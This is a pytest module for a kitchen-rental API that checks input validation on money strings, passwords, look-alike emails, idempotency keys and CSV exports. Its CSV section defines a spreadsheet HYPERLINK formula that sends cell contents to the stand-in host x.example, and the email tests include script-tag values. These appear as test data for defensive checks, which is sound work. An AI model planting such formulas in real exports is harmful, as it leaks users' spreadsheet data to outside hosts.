"""What clients send, held to the rules on each backend: money only as a plain decimal
string, strong passwords, real emails, anonymous idempotency keys that one client cannot
use against another, and CSV that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import io
import threading
from decimal import Decimal
from typing import Any
from uuid import uuid4

import httpx
import orjson
import pytest

from tests.api.conftest import PASSWORD, Api, assert_problem
from tests.api.reading import read

OTHER_PASSWORD = "another sound passphrase"
CARD = "pm_card_visa"


def registration(**fields: Any) -> dict[str, Any]:
    return {
        "email": f"new-{uuid4().hex[:12]}@example.com",
        "password": PASSWORD,
        "full_name": "Ana Lopez",
        "role": "customer",
        **fields,
    }


def register(api: Api, body: dict[str, Any], key: str | None = None) -> httpx.Response:
    headers = {} if key is None else {"Idempotency-Key": key}
    return api.post("/auth/register", json=body, headers=headers)


def where(problem: dict[str, Any]) -> list[list[str | int]]:
    return [error["loc"] for error in problem["errors"]]


# --- money -----------------------------------------------------------------------------


LOOSE_AMOUNTS = [
    "١٢٣",  # Arabic-Indic digits
    "１２",  # fullwidth digits
    "1_000",
    "1e3",
    " 5.00",
    "5.00 ",
    ".5",
    "5.",
    "+5.00",
    "-5.00",
    "5,00",
    "0x10",
    "12345678901.00",  # more than ten whole digits
    5,
    5.5,
    True,
]


@pytest.mark.parametrize("amount", LOOSE_AMOUNTS)
def test_a_top_up_takes_money_only_as_a_plain_decimal_string(api: Api, amount: Any) -> None:
    customer = api.register("customer")
    body = {"amount": amount, "payment_method": CARD}
    response = api.post("/accounts/me/top-ups", customer, json=body)
    assert where(assert_problem(response, 422, "validation_error")) == [["body", "amount"]]


def test_a_json_number_finer_than_a_cent_is_not_rounded_into_money(api: Api) -> None:
    """The JSON parser would make ``5.00000000000000000001`` the float 5.0: only a
    string says exactly what was meant."""
    customer = api.register("customer")
    response = api.post(
        "/accounts/me/top-ups",
        customer,
        content=b'{"amount": 5.00000000000000000001, "payment_method": "pm_card_visa"}',
        headers={"Content-Type": "application/json"},
    )
    assert where(assert_problem(response, 422, "validation_error")) == [["body", "amount"]]


@pytest.mark.parametrize("amount", ["5", "5.5", "5.50", "0.01", "099.90"])
def test_plain_decimal_strings_are_money(api: Api, amount: str) -> None:
    customer = api.register("customer")
    body = {"amount": amount, "payment_method": CARD}
    top_up = api.ok(api.post("/accounts/me/top-ups", customer, json=body), 202)
    assert top_up["amount"] == f"{Decimal(amount):.2f}"


def test_a_payout_a_withdrawal_and_an_hourly_rate_take_money_the_same_way(api: Api) -> None:
    host = api.register("host")
    payout = api.post("/accounts/me/payouts", host, json={"amount": "1e3"})
    assert where(assert_problem(payout, 422, "validation_error")) == [["body", "amount"]]
    customer = api.register("customer")
    withdrawal = api.post("/accounts/me/withdrawals", customer, json={"amount": "1e3"})
    assert where(assert_problem(withdrawal, 422, "validation_error")) == [["body", "amount"]]
    kitchen = {
        "name": "Loose Rate Kitchen",
        "description": "d",
        "city": "Los Angeles",
        "jurisdiction": "los_angeles",
        "address": "1 Main St",
        "hourly_rate": "４５.00",
        "capacity": 4,
        "amenities": [],
    }
    listed = api.post("/kitchens", host, json=kitchen)
    assert where(assert_problem(listed, 422, "validation_error")) == [["body", "hourly_rate"]]


@pytest.mark.parametrize("rate", ["١٢٣", "1e3", " 5", "-1", "1_000", ".5", "5.001"])
@pytest.mark.parametrize("parameter", ["min_rate", "max_rate"])
def test_a_rate_filter_takes_money_the_same_way(api: Api, parameter: str, rate: str) -> None:
    response = api.get("/kitchens", params={parameter: rate})
    assert where(assert_problem(response, 422, "validation_error")) == [["query", parameter]]


# --- passwords and emails --------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "code"),
    [
        (" " * 12, "password_too_short"),
        ("password    ", "password_too_short"),  # padding is no strength
        ("password1234", "password_too_common"),
        ("PassWord1234", "password_too_common"),
        ("ｐａｓｓｗｏｒｄ１２３４", "password_too_common"),  # fullwidth
        ("123qweasdzxc", "password_too_common"),
        ("123456789012", "password_too_predictable"),
        ("987654321098", "password_too_predictable"),
        ("abcdefghijklm", "password_too_predictable"),
        ("qwertyuiopasd", "password_too_predictable"),
        ("aaaaaaaaaaaa", "password_too_predictable"),
        ("kitchenkitchen", "password_too_predictable"),
        ("Password123!", "password_too_common"),
        ("iloveyou1234", "password_too_common"),
        ("aaaaaaaaaaab", "password_too_predictable"),
        ("abababababab1", "password_too_predictable"),
        ("asdfghjklasd", "password_too_predictable"),
        ("zaq12wsxcde3", "password_too_predictable"),
        ("!@#$%^&*()_+", "password_too_predictable"),
        ("ana lopez at home", "password_too_personal"),  # the full name
        ("P a s s w o r d 1 2", "password_too_common"),
        ("pass1234word", "password_too_common"),
        ("password!2024x", "password_too_common"),
        ("letmein!letmein", "password_too_common"),
        ("zxcvbnmasdfghjkl", "password_too_predictable"),
        ("9ol8ik7uj6yh", "password_too_predictable"),
        ("azertyuiopqsdf", "password_too_predictable"),
        ("Ana_Lopez_99x", "password_too_personal"),
        ("zepol ana 2024!", "password_too_personal"),
    ],
)
def test_registration_refuses_a_weak_password(api: Api, password: str, code: str) -> None:
    problem = assert_problem(register(api, registration(password=password)), 422, code)
    assert where(problem) == [["body", "password"]]


def test_registration_refuses_a_password_with_the_email(api: Api) -> None:
    local = f"ana{uuid4().hex[:8]}"
    body = registration(email=f"{local}@example.com", password=f"{local}-my-kitchen")
    problem = assert_problem(register(api, body), 422, "password_too_personal")
    assert where(problem) == [["body", "password"]]


def test_a_password_change_refuses_the_users_email_or_name(api: Api) -> None:
    """Checked against what the write model knows the user by. The email is fixed (one
    registration per module's database): a random part could make the password look
    common (digits added to a word) before it looks personal."""
    local = "anavillalobos"
    created = api.ok(register(api, registration(email=f"{local}@example.com")), 201)
    user = api.log_in(created["email"], min_position=created["position"])
    for new_password in (f"{local.upper()}!kitchen", "ana lopez all day"):
        body = {"current_password": PASSWORD, "new_password": new_password}
        problem = assert_problem(
            api.post("/users/me/password", user, json=body), 422, "password_too_personal"
        )
        assert where(problem) == [["body", "new_password"]]


@pytest.mark.parametrize(
    "email",
    [
        "<script>@ex.com",
        "ana@ex.com<script>",
        "ana@localhost",
        "ana@[127.0.0.1]",
        '"ana lopez"@example.com',
        "ana..lopez@example.com",
        "Ana Lopez <ana@example.com>",
        "ana\n@example.com",
    ],
)
def test_registration_refuses_what_is_not_an_email(api: Api, email: str) -> None:
    problem = assert_problem(register(api, registration(email=email)), 422, "invalid_email")
    assert where(problem) == [["body", "email"]]


def test_a_fullwidth_look_alike_is_the_same_email(api: Api) -> None:
    local = f"ana{uuid4().hex[:8]}"
    fullwidth = "".join(chr(ord(letter) + 0xFEE0) for letter in local)  # ａｎａ…
    created = api.ok(register(api, registration(email=f"{fullwidth}@ＥＸＡＭＰＬＥ.com")), 201)
    assert created["email"] == f"{local}@example.com"
    again = register(api, registration(email=f"{local.upper()}@example.com"))
    assert_problem(again, 409, "email_taken")


@pytest.mark.parametrize(
    "email",
    [
        "admin@demo.prep.examplе",  # a Cyrillic е ends the Latin label
        "pаypal@example.com",  # a Cyrillic а in a Latin local part
        "ana@gοοgle.com",  # Greek omicrons
        f"{'a' * 65}@example.com",  # RFC 5321: 64 octets at most
        f"{'é' * 33}@example.com",  # 33 characters, 66 octets
    ],
)
def test_registration_refuses_a_look_alike_or_overlong_email(api: Api, email: str) -> None:
    problem = assert_problem(register(api, registration(email=email)), 422, "invalid_email")
    assert where(problem) == [["body", "email"]]


def test_a_punycode_domain_and_its_unicode_spelling_are_one_email(api: Api) -> None:
    """Stored in ASCII: a whole-script look-alike (``аррӏе.com``, all Cyrillic) shows
    as the ``xn--`` name it is, and cannot register twice under two spellings."""
    local = f"ana{uuid4().hex[:8]}"
    created = api.ok(register(api, registration(email=f"{local}@xn--80ak6aa92e.com")), 201)
    assert created["email"] == f"{local}@xn--80ak6aa92e.com"
    again = register(api, registration(email=f"{local}@аррӏе.com"))
    assert_problem(again, 409, "email_taken")
    login = api.post("/auth/login", json={"email": f"{local}@АРРӀЕ.com", "password": PASSWORD})
    assert api.ok(login)["token_type"] == "bearer"


@pytest.mark.parametrize(
    "invisible", ["\u200b", "\u200b\u200c\u200d\u2060", "\ufeff \u00a0", "\u3000\u200b\u3000"]
)
def test_a_name_of_invisible_characters_is_refused(api: Api, invisible: str) -> None:
    problem = assert_problem(
        register(api, registration(full_name=invisible)), 422, "invalid_full_name"
    )
    assert where(problem) == [["body", "full_name"]]
    host = api.register("host")
    kitchen = api.draft_kitchen(host)
    for field in ("name", "city", "address", "description"):
        problem = assert_problem(
            api.patch(f"/kitchens/{kitchen['id']}", host, json={field: invisible}),
            422,
            f"invalid_{field}",
        )
        assert where(problem) == [["body", field]]


def test_a_login_folds_its_email_as_registration_does(api: Api) -> None:
    local = f"ana{uuid4().hex[:8]}"
    api.ok(register(api, registration(email=f"{local}@example.com")), 201)
    fullwidth = "".join(chr(ord(letter) + 0xFEE0) for letter in local)
    login = api.post(
        "/auth/login", json={"email": f"{fullwidth}@example.com", "password": PASSWORD}
    )
    assert api.ok(login)["token_type"] == "bearer"


# --- anonymous idempotency keys --------------------------------------------------------


def test_an_anonymous_key_is_one_registrants_alone(api: Api) -> None:
    """B sending A's key registers B (never gets A's user), and A's retry still gets
    A's user."""
    key = f"register-{uuid4()}"
    first = api.ok(register(api, registration(), key), 201)
    other = api.ok(register(api, registration(password=OTHER_PASSWORD), key), 201)
    assert other["id"] != first["id"]
    retried = register(api, registration(email=first["email"]), key)
    assert retried.status_code == 201
    assert retried.json()["id"] == first["id"]


def test_a_registration_retried_with_another_password_reuses_the_key(api: Api) -> None:
    key = f"register-{uuid4()}"
    body = registration()
    created = api.ok(register(api, body, key), 201)
    other_password = register(api, {**body, "password": OTHER_PASSWORD}, key)
    assert_problem(other_password, 422, "idempotency_key_reused")
    other_name = register(api, {**body, "full_name": "Someone Else"}, key)
    assert_problem(other_name, 422, "idempotency_key_reused")
    # The user is the first request's, with its password.
    user = api.log_in(body["email"], min_position=created["position"])
    assert str(user.id) == created["id"]
    wrong = api.post("/auth/login", json={"email": body["email"], "password": OTHER_PASSWORD})
    assert_problem(wrong, 401, "invalid_credentials")


def test_a_registration_retried_with_the_email_in_another_case_gets_the_user(
    api: Api,
) -> None:
    """The request is compared as registered: the retry's email folds to the first's."""
    key = f"register-{uuid4()}"
    local = f"ana{uuid4().hex[:8]}"
    body = registration(email=f"{local}@example.com")
    created = api.ok(register(api, body, key), 201)
    for email in (f"{local.upper()}@Example.COM", f" {local}@example.com "):
        retried = register(api, {**body, "email": email}, key)
        assert retried.status_code == 201, retried.text
        assert retried.json()["id"] == created["id"]


def test_racing_registrations_of_one_email_and_key_give_one_user(api: Api) -> None:
    """Two clients race with one email and key but different passwords: one registers,
    the other is refused — whichever commits first, never both with one id."""
    key = f"register-{uuid4()}"
    body = registration()
    start = threading.Barrier(2)
    answers: list[httpx.Response] = []

    def send(password: str) -> None:
        start.wait(timeout=10)
        answers.append(register(api, {**body, "password": password}, key))

    threads = [threading.Thread(target=send, args=(p,)) for p in (PASSWORD, OTHER_PASSWORD)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(answer.status_code for answer in answers) == [201, 422], [
        answer.text for answer in answers
    ]
    refused = next(answer for answer in answers if answer.status_code == 422)
    assert_problem(refused, 422, "idempotency_key_reused")


# --- CSV -------------------------------------------------------------------------------


FORMULA_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"report")'
FORMULA_CITY = "@SUM(1+1)"


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_analytics_csv_cells_are_never_formulas(api: Api) -> None:
    host = api.register("host")
    kitchen = api.published_kitchen(host, name=FORMULA_NAME, city=FORMULA_CITY)
    after = kitchen["position"]
    as_csv = {"Accept": "text/csv"}
    path = f"/analytics/kitchens/{kitchen['id']}/stats"
    [stats] = csv_rows(read(api, path, host, after=after, headers=as_csv))
    assert (stats["name"], stats["city"]) == (f"'{FORMULA_NAME}", f"'{FORMULA_CITY}")
    assert stats["revenue"] == "0.00"  # numbers stay numbers
    ranking = read(
        api, "/analytics/top-kitchens", api.admin, after=after, params={"limit": 100},
        headers=as_csv,
    )  # fmt: skip
    [ranked] = [row for row in csv_rows(ranking) if row["kitchen_id"] == kitchen["id"]]
    assert (ranked["name"], ranked["city"]) == (f"'{FORMULA_NAME}", f"'{FORMULA_CITY}")
    # JSON is data, not a sheet: it says the name as it is.
    stats_json = orjson.loads(read(api, path, host, after=after).content)
    assert stats_json["name"] == FORMULA_NAME
